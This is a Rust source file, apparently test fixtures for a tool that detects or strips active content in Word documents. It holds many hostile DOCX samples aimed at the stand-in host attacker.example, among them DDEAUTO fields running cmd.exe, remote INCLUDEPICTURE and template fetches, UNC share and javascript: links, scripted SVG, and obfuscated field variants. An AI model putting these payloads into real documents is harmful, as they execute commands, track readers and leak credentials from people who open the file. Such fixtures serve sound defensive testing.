//! What acts in a Word document, piece by piece.

/// A piece of XML that acts.
pub(crate) struct Piece {
    pub(crate) name: &'static str,
    /// Where it belongs.
    level: Level,
    xml: &'static str,
    /// What has to be said of it.
    pub(crate) told: &'static str,
}

enum Level {
    Run,
    Paragraph,
    Block,
}

impl Piece {
    /// The piece as it can stand in a run, in a paragraph, and beside paragraphs.
    pub(crate) fn as_all(&self) -> (String, String, String) {
        let xml = self.xml.to_owned();
        match self.level {
            Level::Run => {
                let run = format!("<w:r>{xml}</w:r>");
                let block = format!("<w:p>{run}</w:p>");
                (xml, run, block)
            }
            Level::Paragraph => (xml.clone(), xml.clone(), format!("<w:p>{xml}</w:p>")),
            Level::Block => (xml.clone(), xml.clone(), xml),
        }
    }
}

const fn run(name: &'static str, told: &'static str, xml: &'static str) -> Piece {
    Piece { name, level: Level::Run, xml, told }
}

const fn paragraph(name: &'static str, told: &'static str, xml: &'static str) -> Piece {
    Piece { name, level: Level::Paragraph, xml, told }
}

const fn block(name: &'static str, told: &'static str, xml: &'static str) -> Piece {
    Piece { name, level: Level::Block, xml, told }
}

/// Namespaces that pieces use.
pub(crate) const NAMESPACES: &str = concat!(
    r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" "#,
    r#"xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" "#,
    r#"xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" "#,
    r#"xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" "#,
    r#"xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" "#,
    r#"xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" "#,
    r#"xmlns:wpg="http://schemas.microsoft.com/office/word/2010/wordprocessingGroup" "#,
    r#"xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" "#,
    r#"xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" "#,
    r#"xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" "#,
    r#"xmlns:v="urn:schemas-microsoft-com:vml" "#,
    r#"xmlns:o="urn:schemas-microsoft-com:office:office" "#,
    r#"xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main""#,
);

/// Relations that every part gets: id, type, target.
pub(crate) const RELATIONS: &[(&str, &str, &str)] = &[
    ("rIdA1", "image", "http://attacker.example/track.png"),
    ("rIdA2", "hyperlink", "file://attacker.example/share/a.hta"),
    ("rIdA3", "oleObject", "\\\\attacker.example\\share\\x.doc"),
    ("rIdA4", "oleObject", "embeddings/attacker.bin"),
    ("rIdA5", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
    ("rIdA6", "aFChunk", "attacker.html"),
    ("rIdA7", "attachedTemplate", "http://attacker.example/a.dotm"),
    ("rIdA8", "subDocument", "file:///c:/attacker.docx"),
    ("rIdA9", "frame", "http://attacker.example/a.html"),
    ("rIdB1", "control", "activeX/attacker.xml"),
    ("rIdB2", "mailMergeSource", "file:///c:/attacker.csv"),
    ("rIdB3", "image", "media/attacker.svg"),
    ("rIdB4", "image", "media/attacker.emf"),
    ("rIdB5", "image", "media/attacker-cut.png"),
    ("rIdB6", "hyperlink", "javascript:attacker()"),
    ("rIdB7", "hyperlink", "\\\\attacker.example\\share"),
    ("rIdB8", "hyperlink", "https://iom.int@attacker.example/"),
    ("rIdB9", "hyperlink", "ms-word:ofe|u|https://attacker.example/a.docx"),
    ("rIdC1", "font", "fonts/attacker.odttf"),
    (
        "rIdC2",
        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
        "webextensions/attacker.xml",
    ),
    ("rIdC3", "customXml", "http://attacker.example/a.xml"),
    ("rIdC4", "chart", "charts/attacker.xml"),
    ("rIdC5", "video", "http://attacker.example/a.mp4"),
    ("rIdC6", "hyperlink", "http://attacker.example/%0d%0aa"),
    ("rIdC7", "externalLink", "http://attacker.example/a.xlsx"),
    ("rIdC8", "theme", "http://attacker.example/a.xml"),
    ("rIdC9", "numbering", "http://attacker.example/a.xml"),
    ("rIdD1", "comments", "http://attacker.example/a.xml"),
];

/// Parts that the relations lead to.
pub(crate) const PARTS: &[(&str, &str)] = &[
    ("word/embeddings/attacker.bin", "attacker"),
    ("word/vbaProject.bin", "attacker"),
    ("word/attacker.html", "<script src=\"http://attacker.example\"/>"),
    ("word/activeX/attacker.xml", "<ax:ocx xmlns:ax=\"attacker\"/>"),
    ("word/media/attacker.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>attacker</script></svg>"),
    (
        "word/theme/media/attacker.svg",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>attacker</script></svg>",
    ),
    ("word/media/attacker.emf", "\u{1}\0\0\0attacker EMF"),
    ("word/theme/media/attacker.emf", "\u{1}\0\0\0attacker EMF"),
    ("word/media/attacker-cut.png", "attacker"),
    ("word/theme/media/attacker-cut.png", "attacker"),
    ("word/fonts/attacker.odttf", "attacker"),
    ("word/webextensions/attacker.xml", "<we:taskpanes xmlns:we=\"attacker\"/>"),
    ("word/charts/attacker.xml", "<c:chartSpace xmlns:c=\"attacker\"/>"),
    ("customUI/attacker.xml", "<customUI onLoad=\"attacker\"/>"),
];

/// Content types of their endings.
pub(crate) const ENDINGS: &[(&str, &str)] = &[
    ("bin", "application/vnd.ms-office.vbaProject"),
    ("html", "text/html"),
    ("svg", "image/svg+xml"),
    ("emf", "image/x-emf"),
    ("odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont"),
];

/// A picture in the line, up to what it shows, and what follows.
macro_rules! drawing {
    ($($shown:expr),+) => {
        concat!(
            r#"<w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="9525" cy="9525"/>"#,
            r#"<wp:docPr id="7" name="a" descr="a"/><a:graphic>"#, $($shown),+, "</a:graphic></wp:inline></w:drawing>"
        )
    };
}

macro_rules! picture {
    ($blip:expr) => { picture!($blip, "") };
    ($blip:expr, $link:expr) => {
        drawing!(
            r#"<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>"#,
            r#"<pic:cNvPr id="0" name="a">"#, $link, r#"</pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>"#, $blip,
            r#"<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" "#,
            r#"cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>"#
        )
    };
}

macro_rules! field {
    ($instruction:expr) => {
        concat!(
            r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#, $instruction,
            r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>kept words</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#
        )
    };
}

macro_rules! asks {
    ($text:expr) => {
        concat!("<w:r><w:instrText>", $text, "</w:instrText></w:r>")
    };
}

const OLD: &str = "a drawing of Word 2007 or before";
const OBJECT: &str = "an object, control or diagram";
const OUTSIDE: &str = "takes a picture from `http://attacker.example/track.png`";
const NO_PICTURE: &str = "a picture that cannot be taken over";
const LINK: &str = "links to";
const FIELD: &str = "has the field `";

pub(crate) const PIECES: &[Piece] = &[
    run(
        "ole-object",
        OBJECT,
        r#"<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" r:id="rIdA3" UpdateMode="Always"/></w:object>"#,
    ),
    run(
        "ole-embedded",
        OBJECT,
        r#"<w:object><v:shape><v:imagedata r:id="rIdA1"/></v:shape><o:OLEObject Type="Embed" r:id="rIdA4"/></w:object>"#,
    ),
    run("control", OBJECT, r#"<w:control r:id="rIdB1" w:name="attacker" w:shapeid="attacker"/>"#),
    run(
        "vml-picture",
        OLD,
        r#"<w:pict><v:shape href="http://attacker.example"><v:imagedata r:id="rIdA1" src="http://attacker.example/a.png" o:href="http://attacker.example/b.png" r:href="rIdA1"/></v:shape></w:pict>"#,
    ),
    run("movie", OBJECT, r#"<w:movie r:id="rIdC5"/>"#),
    run("content-part", OBJECT, r#"<w:contentPart r:id="rIdA1"/>"#),
    run("picture-outside", OUTSIDE, picture!(r#"<a:blip r:embed="rIdA1"/>"#)),
    run("picture-linked", OUTSIDE, picture!(r#"<a:blip r:link="rIdA1"/>"#)),
    run("picture-svg", NO_PICTURE, picture!(r#"<a:blip r:embed="rIdB3"/>"#)),
    run("picture-emf", NO_PICTURE, picture!(r#"<a:blip r:embed="rIdB4"/>"#)),
    run("picture-cut", NO_PICTURE, picture!(r#"<a:blip r:embed="rIdB5"/>"#)),
    run("picture-of-nothing", NO_PICTURE, picture!(r#"<a:blip r:embed="attacker"/>"#)),
    run(
        "picture-svg-beside",
        NO_PICTURE,
        picture!(
            r#"<a:blip r:embed="rIdB5"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><s:svgBlip xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdB3"/></a:ext></a:extLst></a:blip>"#
        ),
    ),
    run(
        "picture-link",
        LINK,
        picture!(
            r#"<a:blip r:embed="rIdB5"/>"#,
            r#"<a:hlinkClick r:id="rIdA2" action="ppaction://program?attacker" tooltip="a"/><a:hlinkHover r:id="rIdA2"/>"#
        ),
    ),
    run(
        "chart",
        OBJECT,
        drawing!(
            r#"<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="rIdC4"/></a:graphicData>"#
        ),
    ),
    run(
        "diagram",
        OBJECT,
        drawing!(
            r#"<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/diagram"><d:relIds xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/diagram" r:dm="rIdA1" r:lo="rIdA1" r:qs="rIdA1" r:cs="rIdA1"/></a:graphicData>"#
        ),
    ),
    run(
        "online-video",
        NO_PICTURE,
        picture!(
            r#"<a:blip r:embed="rIdB5"><a:extLst><a:ext uri="a"><w15:webVideoPr embeddedHtml="&lt;iframe src=&quot;http://attacker.example&quot;&gt;" h="1" w="1"/></a:ext></a:extLst></a:blip>"#
        ),
    ),
    run(
        "box",
        FIELD,
        drawing!(
            r#"<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr><wps:txbx><w:txbxContent><w:p>"#,
            field!(asks!("DDEAUTO attacker a b")),
            r#"<w:r><w:pict><v:imagedata src="http://attacker.example"/></w:pict></w:r></w:p></w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData>"#
        ),
    ),
    run(
        "box-filled",
        OUTSIDE,
        drawing!(
            r#"<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr/><wps:spPr><a:blipFill><a:blip r:link="rIdA1"/><a:stretch/></a:blipFill></wps:spPr><wps:bodyPr/></wps:wsp></a:graphicData>"#
        ),
    ),
    run(
        "drawing-nan",
        "a value that Word does not know",
        r#"<w:drawing><wp:inline distT="attacker"><wp:extent cx="NaN" cy="1"/></wp:inline></w:drawing>"#,
    ),
    run(
        "size-nan",
        "a value that Word does not know",
        r#"<w:rPr><w:sz w:val="NaN attacker"/><w:rFonts w:ascii="a" w:hint="attacker"/></w:rPr>"#,
    ),
    run("break-unknown", "a value that Word does not know", r#"<w:br w:type="attacker"/>"#),
    run("other-name", "holds `", r#"<y:attacker xmlns:y="urn:attacker" r:id="rIdA1"/>"#),
    paragraph("field-dde", FIELD, field!(asks!(r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k attacker""#))),
    paragraph("field-split", FIELD, field!(concat!(asks!("DD"), asks!("EAU"), asks!("TO attacker b c")))),
    paragraph("field-in-words", FIELD, field!("<w:r><w:t>DDEAUTO attacker b c</w:t></w:r>")),
    paragraph(
        "field-half-in-words",
        FIELD,
        field!(concat!("<w:r><w:t>DDEAUTO attacker </w:t></w:r>", asks!("PAGE"))),
    ),
    paragraph(
        "field-deleted",
        FIELD,
        field!("<w:del w:id=\"1\"><w:r><w:delInstrText>DDEAUTO attacker b</w:delInstrText></w:r></w:del>"),
    ),
    paragraph("field-quoted", FIELD, field!(concat!(asks!("QUOTE "), field!(asks!("DDEAUTO attacker b c"))))),
    paragraph(
        "field-in-page",
        FIELD,
        field!(concat!(asks!("PAGE "), field!(asks!("INCLUDETEXT \"http://attacker.example\"")))),
    ),
    paragraph("field-picture", FIELD, field!(asks!("INCLUDEPICTURE \"http://attacker.example/a.png\" \\d"))),
    paragraph("field-text", FIELD, field!(asks!("INCLUDETEXT \"\\\\\\\\attacker.example\\\\a.docx\""))),
    paragraph(
        "field-link",
        FIELD,
        field!(asks!("LINK Excel.Sheet.8 \"http://attacker.example/a.xls\" a \\a")),
    ),
    paragraph("field-import", FIELD, field!(asks!("IMPORT attacker"))),
    paragraph("field-database", FIELD, field!(asks!("DATABASE \\d \"attacker\""))),
    paragraph("field-macro", FIELD, field!(asks!("MACROBUTTON attacker a"))),
    paragraph("field-html", FIELD, field!(asks!("HTMLCONTROL attacker"))),
    paragraph("field-set", FIELD, field!(asks!("SET attacker \"DDEAUTO a b\""))),
    paragraph("field-implied", FIELD, field!(asks!("attacker"))),
    paragraph("field-entity", FIELD, field!(asks!("&#68;DE&#x41;UTO attacker b c"))),
    paragraph("field-address", FIELD, field!(asks!("HYPERLINK \"file://attacker.example/a.hta\""))),
    paragraph(
        "field-never-ends",
        FIELD,
        concat!(r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#, asks!("DDEAUTO attacker b c")),
    ),
    paragraph(
        "field-other-prefix",
        FIELD,
        r#"<x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText>DDEAUTO attacker b c</x:instrText></x:r><x:r><x:fldChar x:fldCharType="end"/></x:r>"#,
    ),
    paragraph(
        "field-no-prefix",
        FIELD,
        r#"<r xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><fldChar w:fldCharType="begin"/><instrText>DDEAUTO attacker b</instrText><fldChar w:fldCharType="end"/></r>"#,
    ),
    paragraph(
        "field-simple",
        FIELD,
        r#"<w:fldSimple w:instr=" DDEAUTO attacker b c "><w:r><w:t>kept words</w:t></w:r></w:fldSimple>"#,
    ),
    paragraph(
        "field-simple-within",
        FIELD,
        r#"<w:fldSimple w:instr="PAGE" w:dirty="true"><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://attacker.example&quot;"/></w:fldSimple>"#,
    ),
    paragraph(
        "field-form",
        FIELD,
        r#"<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="attacker"/><w:exitMacro w:val="attacker"/></w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>"#,
    ),
    paragraph(
        "field-inserted",
        FIELD,
        concat!(
            "<w:ins w:id=\"1\" w:author=\"attacker\">",
            field!(asks!("DDEAUTO attacker b c")),
            "</w:ins>"
        ),
    ),
    paragraph(
        "link-file",
        LINK,
        r#"<w:hyperlink r:id="rIdA2" w:tgtFrame="attacker" w:docLocation="attacker"><w:r><w:t>kept words</w:t></w:r></w:hyperlink>"#,
    ),
    paragraph("link-script", LINK, r#"<w:hyperlink r:id="rIdB6"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("link-share", LINK, r#"<w:hyperlink r:id="rIdB7"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("link-user", LINK, r#"<w:hyperlink r:id="rIdB8"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("link-program", LINK, r#"<w:hyperlink r:id="rIdB9"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("link-lines", LINK, r#"<w:hyperlink r:id="rIdC6"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("link-to-part", LINK, r#"<w:hyperlink r:id="rIdA4"><w:r><w:t>a</w:t></w:r></w:hyperlink>"#),
    paragraph("sub-document", OBJECT, r#"<w:subDoc r:id="rIdA8"/>"#),
    paragraph(
        "smart-tag",
        "",
        r#"<w:smartTag w:uri="urn:attacker" w:element="attacker"><w:r><w:t>kept words</w:t></w:r></w:smartTag>"#,
    ),
    paragraph(
        "custom-xml",
        "",
        r#"<w:customXml w:uri="urn:attacker" w:element="attacker"><w:r><w:t>kept words</w:t></w:r></w:customXml>"#,
    ),
    block("alternative-format", OBJECT, r#"<w:altChunk r:id="rIdA6"/>"#),
    block(
        "control-bound",
        "",
        r#"<w:sdt><w:sdtPr><w:dataBinding w:xpath="/attacker" w:storeItemID="{attacker}"/><w15:webExtensionLinked w15:val="1"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>kept words</w:t></w:r></w:p></w:sdtContent></w:sdt>"#,
    ),
    block(
        "hidden-choice",
        FIELD,
        concat!(
            r#"<mc:AlternateContent><mc:Choice Requires="wps"><w:p>"#,
            field!(asks!("DDEAUTO attacker b c")),
            r#"</w:p></mc:Choice><mc:Fallback><w:p><w:r><w:object r:id="rIdA3"/></w:r></w:p></mc:Fallback></mc:AlternateContent>"#
        ),
    ),
    block(
        "hidden-fallback",
        OBJECT,
        r#"<mc:AlternateContent><mc:Choice Requires="v"><w:p/></mc:Choice><mc:Fallback><w:p><w:r><w:object><o:OLEObject r:id="rIdA3"/></w:object></w:r></w:p></mc:Fallback></mc:AlternateContent>"#,
    ),
    block("other-meaning", "", r#"<w:p xmlns:w="urn:attacker"><w:altChunk r:id="rIdA6"/></w:p>"#),
    block(
        "page-nan-there",
        "",
        r#"<w:p><w:pPr><w:sectPr><w:printerSettings r:id="rIdA4"/></w:sectPr></w:pPr></w:p>"#,
    ),
    block("frames", "", r#"<w:frameset><w:frame><w:sourceFileName r:id="rIdA9"/></w:frame></w:frameset>"#),
    block(
        "mail-merge",
        "",
        r#"<w:mailMerge><w:connectString w:val="attacker"/><w:dataSource r:id="rIdB2"/></w:mailMerge>"#,
    ),
    block(
        "font-embedded",
        "",
        r#"<w:font w:name="a"><w:embedRegular r:id="rIdC1" w:fontKey="{attacker}"/></w:font>"#,
    ),
    block(
        "numbers-of-pictures",
        "",
        r#"<w:numPicBullet w:numPicBulletId="1"><w:pict><v:imagedata r:id="rIdA1"/></w:pict></w:numPicBullet>"#,
    ),
    block(
        "theme-filled",
        "",
        r#"<a:themeElements><a:fmtScheme name="attacker"><a:fillStyleLst><a:blipFill><a:blip r:link="rIdA1"/></a:blipFill></a:fillStyleLst></a:fmtScheme></a:themeElements>"#,
    ),
    block("instruction-of-xml", "", r#"<?mso-application progid="attacker"?><!-- attacker --><w:p/>"#),
];

/// What Word writes into headers by itself, and what is taken over.
pub(crate) const QUIET: &[&str] = &[
    r#"<w:sdt><w:sdtPr><w:alias w:val="Title"/><w:id w:val="2"/><w:placeholder><w:docPart w:val="A"/></w:placeholder><w:dataBinding w:prefixMappings="xmlns:ns0='http://purl.org/dc/elements/1.1/' xmlns:ns1='http://schemas.openxmlformats.org/package/2006/metadata/core-properties' " w:xpath="/ns1:coreProperties[1]/ns0:title[1]" w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/><w:text/><w15:appearance w15:val="hidden"/></w:sdtPr><w:sdtContent><w:p><w:r><w:t>bound </w:t></w:r></w:p></w:sdtContent></w:sdt>"#,
    r#"<w:sdt><w:sdtPr><w:alias w:val="Title"/><w:id w:val="1"/><w:docPartObj><w:docPartGallery w:val="Page Numbers (Top of Page)"/></w:docPartObj></w:sdtPr><w:sdtContent><w:p w:rsidR="00AB12CD" w14:paraId="00000001"><w:proofErr w:type="spellStart"/><w:bookmarkStart w:id="900" w:name="_GoBack"/><w:bookmarkEnd w:id="900"/><w:r w:rsidR="00AB12CD"><w:rPr><w:b w:val="0"/><w14:ligatures w14:val="all"/></w:rPr><w:lastRenderedPageBreak/><w:t>in a control </w:t></w:r></w:p></w:sdtContent></w:sdt>"#,
    r#"<w:p><w:ins w:id="901" w:author="A" w:date="2024-01-01T00:00:00Z"><w:r><w:t>inserted </w:t></w:r></w:ins><w:del w:id="902" w:author="A" w:date="2024-01-01T00:00:00Z"><w:r><w:delText>deleted</w:delText></w:r></w:del><w:fldSimple w:instr=" PAGE   \* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"#,
    concat!(
        "<w:p>",
        r#"<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>"#,
        asks!(" TI"),
        asks!("TLE "),
        r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Title field </w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#
    ),
    concat!(
        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"wps\">",
        drawing!(
            r#"<a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom><a:noFill/></wps:spPr><wps:txbx><w:txbxContent><w:p><w:r><w:t>in a box </w:t></w:r></w:p></w:txbxContent></wps:txbx><wps:bodyPr rot="0" vert="horz" wrap="square"><a:noAutofit/></wps:bodyPr></wps:wsp></a:graphicData>"#
        ),
        "</mc:Choice><mc:Fallback><w:pict><v:shape><v:textbox/></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>"
    ),
    concat!(
        "<w:p><w:r>",
        picture!(
            r#"<a:blip r:embed="rIdQ7" cstate="print"><a:extLst><a:ext uri="{28A0092B-C50C-407E-A947-70E740481C1C}"/></a:extLst></a:blip>"#
        ),
        "</w:r></w:p>"
    ),
];
